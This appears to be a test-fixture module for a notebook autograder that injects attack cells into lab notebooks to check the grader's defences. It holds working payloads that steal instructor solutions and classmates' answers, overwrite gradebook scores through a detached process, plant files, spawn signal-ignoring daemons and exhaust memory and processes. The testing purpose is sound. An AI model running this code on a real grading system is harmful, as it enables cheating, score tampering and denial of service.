"""Attacks on the grading machine and on the scores, each a cell put into a lab's real release or
solution notebook (tests/grading_corpus.py grades them with the rest of the lab's corpus).

Every attack writes MARKER into what it leaves behind (file names, process command lines, bytes
sent), so the tests can look for any trace of it after grading. From the release, an attack that
fails scores 0; from the solution (memory, suicide), the cells before it keep their points.
"""
import copy

import nbformat

from hostile import with_cell

MARKER = "gankit-attack-trace"

# finds the instructor's answers in the course copy (source/) and the repository (solutions/), and
# runs them after every cell, so each hidden test sees the instructor's functions
STEAL = '''
import json, pathlib, gankit
_places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path(gankit.__file__).resolve().parents[1]]
_sources = sorted({p for top in _places for pattern in ("source/*/*.ipynb", "solutions/*/*.ipynb")
                   for p in top.glob(pattern)})
print("sources found:", len(_sources))
_answers = [''.join(c["source"]) for p in _sources for c in json.loads(p.read_text())["cells"]
            if "### BEGIN SOLUTION" in ''.join(c["source"])]
get_ipython().events.register("post_run_cell", lambda *a: [exec(s, globals()) for s in _answers])
'''

# copies a classmate's answers from the submissions folder (the grader's own path, as a student could guess it)
CLASSMATES = '''
import json, pathlib
_theirs = [p for p in pathlib.Path({folder!r}).glob("*.ipynb") if "solution" in p.name]
print("classmates found:", len(_theirs))
_answers = [''.join(c["source"]) for p in _theirs for c in json.loads(p.read_text())["cells"]
            if c["cell_type"] == "code" and "def " in ''.join(c["source"])]
get_ipython().events.register("post_run_cell", lambda *a: [exec(s, globals()) for s in _answers])
'''

# creates MARKER files in the packages, the repository, the home folder and every folder above its own,
# and opens the packages' files for writing (appending nothing)
WRITER = '''
import pathlib, gankit, nbgrader, torch
_packages = [pathlib.Path(m.__file__).resolve().parent for m in (gankit, nbgrader, torch)]
_repo = pathlib.Path(gankit.__file__).resolve().parents[1]
_folders = _packages + [_repo, _repo / "solutions", _repo / "tests", pathlib.Path.home(), pathlib.Path("/tmp"),
                        *pathlib.Path.cwd().parents]
for _folder in _folders:
    try:
        (_folder / "{marker}.txt").write_text("written by a submission")
        print("wrote into", _folder)
    except OSError as _e:
        print("refused:", _folder, type(_e).__name__)
for _package in _packages:
    try:
        open(_package / "__init__.py", "a").close()
        print("could write", _package)
    except OSError as _e:
        print("refused:", _package, type(_e).__name__)
'''

# sets every score in its gradebook to the maximum, now and, from a detached process, after the kernel ends
GRADEBOOK = '''
import pathlib, sqlite3, subprocess, sys
_here = pathlib.Path.cwd()
_books = [str(p / "gradebook.db") for p in [_here, *_here.parents] if (p / "gradebook.db").exists()]
print("gradebooks found:", len(_books))
for _book in _books:
    with sqlite3.connect(_book) as _db:
        _db.execute("UPDATE grade SET auto_score = 1000")
_later = f"""import sqlite3, time
for _ in range(1200):  # {marker}
    for book in {_books!r}:
        try:
            with sqlite3.connect(book) as db:
                db.execute("UPDATE grade SET auto_score = 1000")
        except Exception:
            pass
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", _later], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

# a double-forked daemon in a session of its own that ignores the signals a kernel's end sends
LINGERER = '''
import os, sys, time
_code = "import signal, time\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\ntime.sleep(600)  # {marker}"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code])
    os._exit(0)
time.sleep(0.5)
'''

# connects to the test's TCP server on the grading machine's loopback
NETWORK = '''
import socket
for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, {port}), timeout=3) as _s:
            _s.sendall(b"{marker}")
        print("connected to", _host)
    except OSError as _e:
        print("no connection to", _host, type(_e).__name__)
'''

# takes memory until something stops it
MEMORY = '''
import torch
_hog = []
while True:
    _hog.append(torch.ones(64 * 2**20))  # 256 MiB, written
'''

# starts processes until something stops it, and leaves them running
FORK = '''
import subprocess
_children = []
try:
    while len(_children) < 100_000:
        _children.append(subprocess.Popen(["sleep", "600"]))
except OSError as _e:
    print(f"stopped after {len(_children)} processes: {type(_e).__name__}")
'''

SUICIDE = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

FROM_RELEASE = {"steal": STEAL, "classmates": CLASSMATES, "writer": WRITER, "gradebook": GRADEBOOK,
                "lingerer": LINGERER, "network": NETWORK, "fork": FORK}
FROM_SOLUTION = {"memory": MEMORY, "suicide": SUICIDE}  # put halfway: the cells before it earn their points


def _tests(solution) -> list[int]:
    return [i for i, c in enumerate(solution.cells)
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]


def after_half(solution) -> int:
    """Where a cell goes halfway: just after the test cell that ends the first half of the graded tests."""
    tests = _tests(solution)
    return tests[len(tests) // 2 - 1] + 1


def earned_before(solution, index: int) -> set:
    """Grade ids of the test cells above `index`: what a notebook stopped there has earned."""
    return {solution.cells[i].metadata["nbgrader"]["grade_id"] for i in _tests(solution) if i < index}


def write_attacks(solution, release, folder, port: int, names) -> dict:
    """Write the attacks `names` into `folder` as attack-<name>.ipynb; returns name -> index of its cell."""
    at = {}
    for name in names:
        if name in FROM_RELEASE:
            code = FROM_RELEASE[name].replace("{folder!r}", repr(str(folder))).replace("{marker}", MARKER)
            nbformat.write(with_cell(release, code.replace("{port}", str(port)), at=1), str(folder / f"attack-{name}.ipynb"))
            at[name] = 1
        else:
            i = after_half(solution)
            nbformat.write(with_cell(copy.deepcopy(solution), FROM_SOLUTION[name], at=i), str(folder / f"attack-{name}.ipynb"))
            at[name] = i
    return at
